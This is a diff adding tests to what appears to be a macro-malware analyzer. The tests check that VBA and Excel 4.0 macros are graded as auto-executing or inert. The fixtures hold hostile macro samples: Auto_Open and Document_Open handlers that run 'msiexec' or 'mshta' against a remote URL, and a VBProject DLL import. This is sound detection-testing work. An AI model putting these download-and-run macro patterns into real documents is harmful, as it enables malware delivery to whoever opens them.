@@ -125,3 +125,35 @@ def test_modules_one_after_another_and_texts_of_forms_in_a_report():
         if getattr(one, "name", "") == "vba.commands"
     ]
     assert commands == ["msiexec /q /i http://192.0.2.1/a"]
+
+
+def told(source, name="a.bas"):
+    assert is_vba(Artifact(name, source.encode(), name))
+    return [
+        one.value for one in analyze(Artifact(name, source.encode(), name)) if getattr(one, "name", "") == "macro.grade"
+    ]
+
+
+def reported(title, text):
+    return f"VBA MACRO {title} \nin file: a - OLE stream: ''\n{'- ' * 39}\n{text}\n+----------+--------------------+---------------\n|Type|\n"
+
+
+def test_macro_sheets_and_nameless_modules_of_a_report():
+    sheet = '\' 0018     31 LABEL : Cell Value, String Constant - Auto_Open len=7\n\' \n0:,A1,EXEC("msiexec /i http://192.0.2.1/u /q"),""\n\' \n0:,A2,HALT(),""\n'
+    assert told(reported("xlm_macro.txt", sheet)) == ["auto_exec"]
+    assert told(reported("xlm_macro.txt", sheet.replace("EXEC", "ALERT"))) == ["inert"]
+    text = 'Set w = CreateObject("Word.Application")\nw.NormalTemplate.VBProject.VBComponents.Import ("C:\\a.dll")'
+    assert told(reported("a.sample", text)) == ["auto_exec"]
+
+
+def test_code_kept_as_remarks():
+    source = 'Rem Attribute VBA_ModuleType=VBADocumentModule\nSub ThisDocument\nRem Sub Document_Open()\nRem Shell "mshta http://192.0.2.1/a", 0\nRem End Sub\nEnd Sub\n'
+    assert told(source) == ["auto_exec"]
+    assert told("Rem Attribute VBA_ModuleType=VBAModule\nOption VBASupport 1\nSub a()\nRem b\nEnd Sub\n") == ["inert"]
+
+
+def test_macros_kept_under_the_names_of_other_languages():
+    source = b'Sub AutoOpen()\r\nShell "mshta http://192.0.2.1/a"\r\nEnd Sub\r\n'
+    assert is_vba(Artifact("a.vb", source, "a.vb"))
+    assert not is_vba(Artifact("a.vb", b"Imports System\r\n" + source, "a.vb"))
+    assert not is_vba(Artifact("a.vbs", source.replace(b"AutoOpen", b"Start"), "a.vbs"))
